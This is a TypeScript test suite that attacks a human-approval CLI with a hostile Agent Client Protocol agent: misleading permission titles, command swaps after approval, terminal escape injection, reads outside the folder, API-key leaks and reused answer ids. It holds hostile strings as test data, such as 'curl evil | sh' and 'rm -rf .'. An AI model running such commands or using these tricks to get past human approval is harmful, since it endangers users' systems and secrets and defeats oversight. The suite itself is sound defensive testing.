import { cpSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { attacks } from './attacks.js';
import { at, jsonLines, textAt } from './json.js';
import { heldUnless, premise } from './verdict.js';
import type { World } from './world.js';

const HOSTILE = fileURLToPath(new URL('../fixtures/acp/hostile.mjs', import.meta.url));
const PLAYED = fileURLToPath(new URL('../fixtures/acp/agent.mjs', import.meta.url));

const agentOf = (world: World, way: string): string => `node ${HOSTILE} ${way} ${world.path('ledger.jsonl')}`;
const heard = (world: World): readonly unknown[] => jsonLines(world.read('ledger.jsonl'));
const answerOf = (world: World, id: string): unknown => heard(world).find((entry) => at(entry, 'id') === id);

/** A turn with a hostile agent, with these lines as answers. */
async function turn(world: World, way: string, input = '', env = {}) {
  const args = ['chat', '--agent', agentOf(world, way), '-p', 'go', ...(input === '' ? ['--no-input'] : [])];
  return world.run(args, { input, env });
}

const askedIn = (world: World): readonly unknown[] =>
  world.eventsOf(world.session, 'interrupt-raised').map((event) => at(event, 'interrupt'));
const hasEscaped = (text: string): boolean => text.includes('\u001b]0;PWN') || text.includes('\u001b[2J');

attacks('agents of the Agent Client Protocol', [
  {
    id: 'P1',
    tried: 'a title of a permission says another thing than its input',
    async run(world) {
      const { stdout, stderr } = await turn(world, 'title');
      const shown = stdout + stderr;
      return heldUnless(
        [
          ...(shown.includes('curl evil | sh') ? [] : ['the input is not shown']),
          ...(shown.includes(', not hitl (according to the agent)') ? [] : ['whose word it is is not shown']),
        ],
        'the input stands beside the title, and whose word it is',
      );
    },
  },
  {
    id: 'P2',
    tried: 'another command follows the one that was approved',
    async run(world) {
      await turn(world, 'switch', 'y\n');
      const names = askedIn(world).map((one) => textAt(one, 'source', 'name'));
      premise(names[0] === 'agent_permission', 'the permission was not asked for');
      return heldUnless(
        [
          ...(world.exists('proj/pwned') ? ['it ran'] : []),
          ...(names[1] === 'run_command' ? [] : ['it was not asked about by itself']),
        ],
        'it is a question of its own',
      );
    },
  },
  {
    id: 'P3',
    tried: 'control characters in words, on the error stream, in a title and an input',
    async run(world) {
      const first = await turn(world, 'escapes');
      const id = world.session;
      const shown = [
        first,
        ...(await Promise.all(
          ['show', 'why', 'inbox'].map((name) => world.run(name === 'inbox' ? [name] : [name, id])),
        )),
      ];
      const raw = shown.some(({ stdout, stderr }) => hasEscaped(stdout + stderr));
      return heldUnless(raw ? ['raw escapes got out'] : [], 'no escape got out');
    },
  },
  {
    id: 'P4',
    tried: 'words without end',
    limitMs: 60_000,
    async run(world) {
      const { status, stderr } = await turn(world, 'flood');
      return heldUnless(
        status !== 0 && stderr.includes('the agent sent too much') ? [] : [`status ${String(status)}`],
        'it was ended, and the session is saved',
      );
    },
  },
  {
    id: 'P5',
    tried: 'more questions at once than anybody can read',
    async run(world) {
      await turn(world, 'many');
      const refused = heard(world).filter(
        (entry) => at(entry, 'error') === 'more than 50 requests are waiting',
      );
      const asked = askedIn(world).length;
      return heldUnless(
        asked <= 50 && refused.length === 250 ? [] : [`${String(asked)} questions`],
        'no more than 50',
      );
    },
  },
  {
    id: 'P6',
    tried: 'a file outside of the folder is read',
    async run(world) {
      await turn(world, 'read');
      premise(askedIn(world).length === 1, 'nothing was asked');
      return heldUnless(
        world.read('ledger.jsonl').includes('root:') ? ['it has the content'] : [],
        'a person is asked first',
      );
    },
  },
  {
    id: 'P7',
    tried: 'a file outside of the folder is written',
    async run(world) {
      const { stdout, stderr } = await turn(world, 'write');
      return heldUnless(
        [
          ...(world.exists('pwned') ? ['it was written'] : []),
          ...((stdout + stderr).includes('outside the working directory')
            ? []
            : ['nobody is told where it lies']),
        ],
        'a person is asked first, and told where it lies',
      );
    },
  },
  {
    id: 'P8',
    tried: 'requests of a session that is not the agent’s',
    async run(world) {
      await turn(world, 'session');
      const refused = ['s', 's2'].map((id) => textAt(answerOf(world, id), 'error'));
      const isRefused = refused.every((text) => text === 'it belongs to a session that is not open');
      return heldUnless(
        isRefused && askedIn(world).length === 0 && !world.exists('proj/pwned') ? [] : [refused.join(', ')],
        'refused without a question',
      );
    },
  },
  {
    id: 'P9',
    tried: 'answers to requests that are over or nobody made, and one id three times',
    async run(world) {
      const { stderr } = await turn(world, 'ids', 'y\n');
      const answers = heard(world).filter((entry) => at(entry, 'id') === 'same');
      return heldUnless(
        [
          ...(hasEscaped(stderr) ? ['an id got out raw'] : []),
          ...(answers.length === 1 && askedIn(world).length === 1
            ? []
            : [`${String(answers.length)} answers`]),
        ],
        'one question, and one answer',
      );
    },
  },
  {
    id: 'P10',
    tried: 'options that all allow, and always',
    async run(world) {
      await turn(world, 'allows');
      const approved = await world.approve(world.session);
      const rejected = await world.run(['answer', world.session, 'n', '--any']);
      premise(rejected.status === 0, rejected.stderr);
      return heldUnless(
        approved.status === 0 ? ['a yes was taken, and chose one of them'] : [],
        'a yes is refused, and a no is taken',
      );
    },
  },
  {
    id: 'P11',
    tried: 'a yes and a no with one id',
    async run(world) {
      await turn(world, 'twins', 'y\n');
      const error = textAt(answerOf(world, 'p'), 'error');
      return heldUnless(
        askedIn(world).length === 0 && error.includes('the same id') ? [] : ['it was asked'],
        'refused without a question',
      );
    },
  },
  {
    id: 'P12',
    tried: 'another version of the protocol, and lines that are none of it',
    async run(world) {
      const [version, junk] = [await turn(world, 'version'), await turn(world, 'junk')];
      return heldUnless(
        [
          ...(version.stderr.includes('uses protocol version 7, but hitl uses version 1') &&
          version.status !== 0
            ? []
            : ['the version was taken']),
          ...(junk.stderr.includes('sent too much') && !hasEscaped(junk.stderr)
            ? []
            : ['the lines were read on']),
        ],
        'both end with words',
      );
    },
  },
  {
    id: 'P13',
    tried: 'an agent reads the keys of others in its environment',
    async run(world) {
      await turn(world, 'environment', '', { ANTHROPIC_API_KEY: 'k', OPENAI_API_KEY: 'k', MY_TOKEN: 'k' });
      const names = JSON.stringify(at(heard(world)[1], 'environment') ?? null);
      premise(names.includes('PATH'), 'it has told nothing');
      return heldUnless(/KEY|TOKEN|HITL_HOME/u.test(names) ? [names] : [], 'it has none of them');
    },
  },
  {
    id: 'P14',
    tried: 'a configuration of the project names an agent',
    async run(world) {
      world.write('proj/hitl.config.json', JSON.stringify({ model: `acp:${agentOf(world, 'title')}` }));
      const { stderr } = await world.run(['chat', '-p', 'go', '--no-input', '--trust']);
      return heldUnless(
        [
          ...(world.exists('ledger.jsonl') ? ['it was started'] : []),
          ...(stderr.includes('can only be set in your own configuration') ? [] : [stderr]),
        ],
        'it is left out, and told',
      );
    },
  },
  {
    id: 'P15',
    tried: 'a session that somebody else wrote names an agent',
    async run(world) {
      const home = world.path('attacker');
      await turn(world, 'title', '', { HITL_HOME: home });
      const [id = ''] = world.sessions(home);
      premise(id !== '', 'the attacker has no session');
      const before = heard(world).length;
      cpSync(path.join(home, 'sessions'), world.path('proj/sess'), { recursive: true });
      const { stderr } = await world.run(['resume', id, '--sessions', './sess', '-p', '--message', 'go']);
      return heldUnless(
        heard(world).length > before ? ['it was started'] : [],
        `not started: ${stderr.split('\n')[0] ?? ''}`,
      );
    },
  },
  {
    id: 'P16',
    tried: 'an agent dies with its question, and asks for another thing under the same id',
    async run(world) {
      const folder = world.path('agent');
      const work = (command: string): string =>
        JSON.stringify({ steps: [{ permission: 'Run it', input: { command }, then: 'did' }] });
      world.write('agent/work.json', work('ls'));
      await world.run(['chat', '--agent', `node ${PLAYED} ${folder}`, '-p', 'go', '--no-input']);
      premise((await world.approve(world.session)).status === 0, 'it could not be approved');
      world.write('agent/work.json', work('rm -rf .'));
      await world.run(['resume', world.session, '-p', '--no-input']);
      return heldUnless(
        world.exists('proj/did') || readFileSync(path.join(folder, 'ledger.jsonl'), 'utf8').includes('"once"')
          ? ['it had the answer of the other']
          : [],
        'it is asked about anew',
      );
    },
  },
]);
